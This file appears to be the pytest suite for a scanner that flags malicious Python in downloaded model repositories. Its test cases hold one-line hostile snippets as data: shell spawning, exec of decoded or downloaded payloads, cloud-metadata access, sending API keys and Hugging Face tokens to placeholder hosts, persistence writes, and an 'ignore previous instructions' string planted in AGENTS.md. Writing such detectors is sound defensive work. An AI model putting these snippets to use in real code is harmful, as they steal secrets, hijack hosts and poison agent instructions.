# ruff: noqa: E501  (one source snippet per line reads best)
"""The Python analyser on snippets: resolution, folding, reachability and verdict policy."""

from __future__ import annotations

import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlwarden.behaviour.knowledge import is_secret_env_name
from mlwarden.report.model import Verdict
from mlwarden.scan.context import Limits, ScanContext
from mlwarden.scan.remote_code import analyze_python, relative_imports


def analyse(src: str) -> ScanContext:
    ctx = ScanContext(display_path="repo/modeling_x.py", limits=Limits())
    analyze_python(textwrap.dedent(src).encode(), ctx)
    return ctx


def rules(src: str) -> set[tuple[str, int]]:
    return {(f.rule, f.location.line) for f in analyse(src).findings
            if f.verdict is not Verdict.CLEAN}


@pytest.mark.parametrize("src, rule, line", [
    # import aliases
    ("import os as o\no.system('id')\n", "code-import-process", 2),
    ("from subprocess import Popen as P\nP(['id'])\n", "code-import-process", 2),
    ("o = __import__('os')\no.popen('id')\n", "code-import-process", 2),
    ("import importlib\nimportlib.import_module('subprocess').run('id')\n",
     "code-import-process", 2),
    ("import os\ns = os.system\ns('id')\n", "code-import-process", 3),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')\n", "code-import-process", 2),
    ("import pty\npty.spawn('/bin/sh')\n", "code-import-process", 2),
    # exec of decoded code
    ("import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwDAAAAAAE=')))\n",
     "code-exec-payload", 2),
    ("import codecs\ncode = codecs.decode('cevag(1)', 'rot13')\nexec(code)\n",
     "code-exec-payload", 3),
    ("import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()\n",
     "code-exec-payload", 2),
    ("eval(bytes.fromhex('7072696e74283129'))\n", "code-exec-payload", 1),
    ("import urllib.request as u\nexec(u.urlopen('http://x.invalid/p').read())\n",
     "code-exec-payload", 2),
    ("import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAACMAJQu'))\n",
     "code-exec-payload", 2),
    # metadata addresses, encoded
    ("import requests\nrequests.get('http://metadata.google.internal/computeMetadata/v1/')\n",
     "code-metadata-access", 2),
    ("import requests, base64\nh = base64.b64decode('MTY5LjI1NC4xNjkuMjU0').decode()\n"
     "requests.get('http://' + h)\n", "code-metadata-access", 2),
    ("import requests\nh = ''.join(chr(c) for c in [49,54,57,46,50,53,52,46,49,54,57,46,50,53,52])\n"
     "requests.get(f'http://{h}/latest')\n", "code-metadata-access", 2),
    ("import socket\ns = socket.socket()\ns.connect((0xA9FEA9FE, 80))\n",
     "code-metadata-access", 3),
    ("HOSTS = ['fd00:ec2::254']\n", "code-metadata-address", 1),
    # secrets + network
    ("import os, httpx\nhttpx.post('https://x.invalid', json={'k': os.getenv('OPENAI_API_KEY')})\n",
     "code-exfiltration", 2),
    ("import os, requests\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\nrequests.put('u', data=key)\n",
     "code-exfiltration", 3),
    ("import requests, pathlib\nt = (pathlib.Path.home() / '.cache/huggingface/token').read_text()\n"
     "requests.post('u', data=t)\n", "code-exfiltration", 3),
    ("import smtplib, socket\nsmtplib.SMTP('mail.invalid').sendmail('a', 'b', socket.gethostname())\n",
     "code-exfiltration", 2),
    ("from huggingface_hub import HfApi\nimport os\n"
     "HfApi().upload_file(path_or_fileobj=str(dict(os.environ)).encode(), path_in_repo='e', repo_id='x/y')\n",
     "code-exfiltration", 3),
    # writes
    ("open('/home/u/.bashrc', 'a').write('x')\n", "code-persistence-write", 1),
    ("import os, shutil\nshutil.copy('x', os.path.expanduser('~/.config/autostart/x.desktop'))\n",
     "code-persistence-write", 2),
    ("from pathlib import Path\nPath('AGENTS.md').write_text('ignore previous instructions')\n",
     "code-agent-memory-write", 2),
    ("import os\nos.makedirs(os.path.join(os.path.expanduser('~'), '.cursor', 'rules'))\n",
     "code-agent-memory-write", 2),
    ("open('../../outside.txt', 'w')\n", "code-write-outside", 1),
    # builtins and dynamic imports
    ("__builtins__['ev' + 'al']('1')\n", "code-builtins-access", 1),
    ("m = input()\n__import__(m)\n", "code-dynamic-import", 2),
    ("__import__('o' + 's')\n", "code-dynamic-import", 1),
    ("import marshal\nmarshal.loads(open('x', 'rb').read())\n", "code-unmarshal", 2),
    ("import ctypes\nctypes.CDLL('libc.so.6')\n", "code-load-native", 2),
    ("import ctypes\nctypes.CDLL('./libkernels.so')\n", "code-native-extension", 2),
])
def test_detects(src: str, rule: str, line: int) -> None:
    assert (rule, line) in rules(src)


def test_import_time_versus_function() -> None:
    src = """\
    import subprocess

    def build():
        subprocess.run(["nvcc", "--version"])

    def not_called():
        subprocess.run(["ls"])

    class Kernel:
        def __init__(self):
            self.compile()

        def compile(self):
            subprocess.check_output(["make"])

    build()
    K = Kernel()
    if __name__ == "__main__":
        subprocess.run(["echo"])
    """
    got = rules(src)
    assert ("code-import-process", 4) in got  # build() runs at import
    assert ("code-process", 7) in got  # never called
    assert ("code-import-process", 14) in got  # Kernel() -> __init__ -> self.compile()
    assert ("code-process", 19) in got  # __main__ block does not run on import


def test_decorators_defaults_and_callbacks_run_at_import() -> None:
    src = """\
    import atexit, os, threading

    def deco(f):
        os.system("a")
        return f

    @deco
    def g(x=os.popen("b")):
        pass

    def cb():
        os.system("c")

    @atexit.register
    def at_exit():
        os.system("d")

    threading.Thread(target=cb).start()
    run = (lambda: os.system("e"))()
    """
    got = rules(src)
    for line in (4, 8, 12, 16, 19):
        assert ("code-import-process", line) in got, line


def test_network_in_function_is_suspicious_not_malicious() -> None:
    ctx = analyse("""\
    import requests
    from PIL import Image

    def load_image(url):
        return Image.open(requests.get(url, stream=True).raw)
    """)
    assert ctx.verdict is Verdict.SUSPICIOUS
    assert {f.rule for f in ctx.findings if f.verdict is not Verdict.CLEAN} == {"code-network"}


def test_ordinary_code_is_clean() -> None:
    ctx = analyse("""\
    import os, re, math, json, base64, logging, warnings
    import torch
    from torch import nn
    logger = logging.getLogger(__name__)
    _PAT = re.compile(r"\\d+")
    PARALLEL = os.environ.get("TOKENIZERS_PARALLELISM", "false")
    warnings.filterwarnings("ignore")

    class M(nn.Module):
        def __init__(self, vocab_file=None):
            super().__init__()
            self.lin = nn.Linear(2, 2)
            self.compiled = torch.compile(self.lin)
            if vocab_file and os.path.exists(vocab_file):
                with open(vocab_file, "rb") as f:
                    self.ranks = {base64.b64decode(t): int(r) for t, r in
                                  (l.split() for l in f.read().splitlines())}

        def save(self, out_dir):
            with open(os.path.join(out_dir, "vocab.json"), "w") as f:
                json.dump({}, f)

        def forward(self, x):
            return self.lin(x) * math.sqrt(2.0)
    """)
    assert ctx.verdict is Verdict.CLEAN, [f for f in ctx.findings]


def test_side_effects_are_informational() -> None:
    ctx = analyse("import foo\nfoo.setup()\nfor i in range(3):\n    pass\n")
    side = [f for f in ctx.findings if f.rule == "code-import-side-effect"]
    assert [f.location.line for f in side] == [2, 3]
    assert ctx.verdict is Verdict.CLEAN


def test_unparseable_and_bounds() -> None:
    ctx = analyse("def f(:\n")
    assert ctx.findings[0].rule == "code-unparseable"
    assert ctx.verdict is Verdict.UNSCANNABLE
    ctx = ScanContext(display_path="x.py", limits=Limits(max_text_bytes=10))
    analyze_python(b"x = 1\n" * 10, ctx)
    assert ctx.findings[0].rule == "limit-exceeded"
    deep = ("x = " + "-" * 200_000 + "1\n").encode()
    ctx = ScanContext(display_path="x.py", limits=Limits())
    analyze_python(deep, ctx)
    assert ctx.verdict is Verdict.UNSCANNABLE


def test_folding_bombs_stay_bounded() -> None:
    src = "s = 'a'\n" + "s = s + s\n" * 200 + "open(s, 'w')\n"
    src += "t = 'x' * 10**9\nopen('/' + t, 'w')\n"
    ctx = analyse(src)
    assert ctx.verdict in (Verdict.CLEAN, Verdict.SUSPICIOUS)


def test_secret_names() -> None:
    for name in ("HF_TOKEN", "AWS_ACCESS_KEY_ID", "OPENAI_API_KEY", "DB_PASSWORD",
                 "GITHUB_TOKEN", "MY_SECRET"):
        assert is_secret_env_name(name), name
    for name in ("TOKENIZERS_PARALLELISM", "CUDA_VISIBLE_DEVICES", "HF_HOME", "PWD",
                 "KEYBOARD_LAYOUT"):
        assert not is_secret_env_name(name), name


def test_relative_imports_mirror_transformers() -> None:
    text = "from .configuration_x import C\nimport .helpers\nfrom . import y\n"
    assert relative_imports(text) == ["configuration_x", "helpers"]


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_arbitrary_bytes_never_raise(data: bytes) -> None:
    ctx = ScanContext(display_path="x.py", limits=Limits())
    analyze_python(data, ctx)
    assert ctx.findings is not None
